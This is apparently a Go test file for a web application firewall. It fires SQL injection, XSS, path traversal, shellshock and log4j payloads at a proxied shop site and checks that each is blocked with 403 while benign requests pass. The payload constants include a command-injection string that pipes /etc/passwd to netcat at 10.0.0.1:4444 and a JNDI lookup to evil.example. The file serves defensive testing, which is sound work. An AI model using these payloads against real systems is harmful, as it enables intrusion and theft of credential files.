package edge

import (
	"bytes"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// chunked hides the length of a body, so that it is sent in chunks.
type chunked struct{ io.Reader }

func form(kv ...string) string {
	v := url.Values{}
	for i := 0; i < len(kv); i += 2 {
		v.Set(kv[i], kv[i+1])
	}
	return v.Encode()
}

func multipartBody(t testing.TB, field, value, file string, content []byte) (string, []byte) {
	t.Helper()
	var b bytes.Buffer
	m := multipart.NewWriter(&b)
	if err := m.WriteField(field, value); err != nil {
		t.Fatal(err)
	}
	if file != "" {
		f, err := m.CreateFormFile("upload", file)
		if err != nil {
			t.Fatal(err)
		}
		f.Write(content)
	}
	m.Close()
	return m.FormDataContentType(), b.Bytes()
}

const (
	sqli  = "1' OR '1'='1' UNION SELECT password FROM users-- -"
	xss   = "<script>alert(document.cookie)</script>"
	lfi   = "../../../../etc/passwd"
	rce   = ";cat /etc/passwd|nc 10.0.0.1 4444"
	log4j = "${jndi:ldap://evil.example/a}"
)

type shot struct {
	name, method, path string
	header             map[string]string
	body               []byte
	chunked            bool
}

func attacks(t testing.TB) []shot {
	var out []shot
	for name, payload := range map[string]string{"sqli": sqli, "xss": xss, "lfi": lfi, "rce": rce, "log4j": log4j} {
		json := []byte(`{"user":{"name":` + quoteJSON(payload) + `}}`)
		mtype, mbody := multipartBody(t, "comment", payload, "", nil)
		out = append(out,
			shot{name: name + " in query", path: "/search?" + form("q", payload)},
			shot{name: name + " in form", method: "POST", path: "/f", header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, body: []byte(form("comment", payload))},
			shot{name: name + " in JSON", method: "PUT", path: "/j", header: map[string]string{"Content-Type": "application/json"}, body: json},
			shot{name: name + " in chunked JSON", method: "POST", path: "/j", header: map[string]string{"Content-Type": "application/json; charset=utf-8"}, body: json, chunked: true},
			shot{name: name + " in multipart", method: "POST", path: "/m", header: map[string]string{"Content-Type": mtype}, body: mbody},
		)
		if name != "lfi" { // a relative path alone is no attack in a cookie at level 1
			out = append(out, shot{name: name + " in cookie", path: "/", header: map[string]string{"Cookie": "theme=" + url.QueryEscape(payload)}})
		}
	}
	return append(out,
		shot{name: "lfi in path", path: "/static/..%2f..%2f..%2fetc%2fpasswd"},
		shot{name: "xss in path", path: "/p/%3Cscript%3Ealert(1)%3C%2Fscript%3E"},
		shot{name: "log4j in user agent", path: "/", header: map[string]string{"User-Agent": log4j}},
		shot{name: "shellshock in header", path: "/", header: map[string]string{"User-Agent": "() { :; }; echo; /bin/cat /etc/passwd"}},
		shot{name: "scanner", path: "/", header: map[string]string{"User-Agent": "sqlmap/1.7"}},
		shot{name: "sqli in referer", path: "/", header: map[string]string{"Referer": "http://x.example/?a=" + url.QueryEscape(log4j)}},
		shot{name: "broken JSON", method: "POST", path: "/j", header: map[string]string{"Content-Type": "application/json"}, body: []byte(`{"a":`)},
		shot{name: "restricted file", path: "/.git/config"},
	)
}

func quoteJSON(s string) string { return `"` + strings.ReplaceAll(s, `"`, `\"`) + `"` }

func benign(t testing.TB) []shot {
	mtype, mbody := multipartBody(t, "title", "Holiday in Harbin", "photo.jpg", bytes.Repeat([]byte{0xff, 0xd8, 0x10, 0x80}, 50<<10))
	return []shot{
		{name: "front page", path: "/"},
		{name: "search", path: "/search?q=blue+shoes&page=2&sort=price"},
		{name: "chinese", path: "/%E4%BD%A0%E5%A5%BD?q=%E9%9E%8B%E5%AD%90"},
		{name: "form", method: "POST", path: "/login", header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, body: []byte(form("user", "anna", "note", "see you at 5, don't be late"))},
		{name: "json", method: "PATCH", path: "/api/items/5", header: map[string]string{"Content-Type": "application/json"}, body: []byte(`{"name":"O'Brien & sons","price":9.5,"tags":["a","b"]}`)},
		{name: "chunked json", method: "POST", path: "/api/items", header: map[string]string{"Content-Type": "application/json"}, body: []byte(`{"name":"x"}`), chunked: true},
		{name: "xml", method: "POST", path: "/soap", header: map[string]string{"Content-Type": "text/xml"}, body: []byte(`<?xml version="1.0"?><a><b>hello</b></a>`)},
		{name: "delete", method: "DELETE", path: "/api/items/5"},
		{name: "options", method: "OPTIONS", path: "/api/items/5"},
		{name: "head", method: "HEAD", path: "/"},
		{name: "upload", method: "POST", path: "/photos", header: map[string]string{"Content-Type": mtype}, body: mbody},
		{name: "cookies", path: "/", header: map[string]string{"Cookie": "sid=abc123; theme=dark; lang=zh-CN"}},
	}
}

func (s shot) fire(t testing.TB, c *http.Client, base string) (int, string) {
	t.Helper()
	var body io.Reader
	if s.body != nil {
		body = bytes.NewReader(s.body)
		if s.chunked {
			body = chunked{body}
		}
	}
	method := s.method
	if method == "" {
		method = "GET"
	}
	resp, text := do(t, c, method, base+s.path, s.header, body)
	return resp.StatusCode, text
}

func TestAttacksAreBlockedAndBenignRequestsPass(t *testing.T) {
	o := echoOrigin(t)
	w := newWorld(t, nil, siteAt("shop", "shop.example.com", o.URL))
	for _, via := range []struct {
		name, base string
		client     *http.Client
	}{
		{"h1", "http://shop.example.com", w.client(false, 0)},
		{"h2", "https://shop.example.com", w.client(true, 0)},
	} {
		for _, s := range attacks(t) {
			if code, _ := s.fire(t, via.client, via.base); code != 403 {
				t.Errorf("%s: %s: status %d, want 403", via.name, s.name, code)
			}
		}
		for _, s := range benign(t) {
			if code, body := s.fire(t, via.client, via.base); code != 200 {
				t.Errorf("%s: %s: status %d, want 200: %s", via.name, s.name, code, body)
			}
		}
	}
}
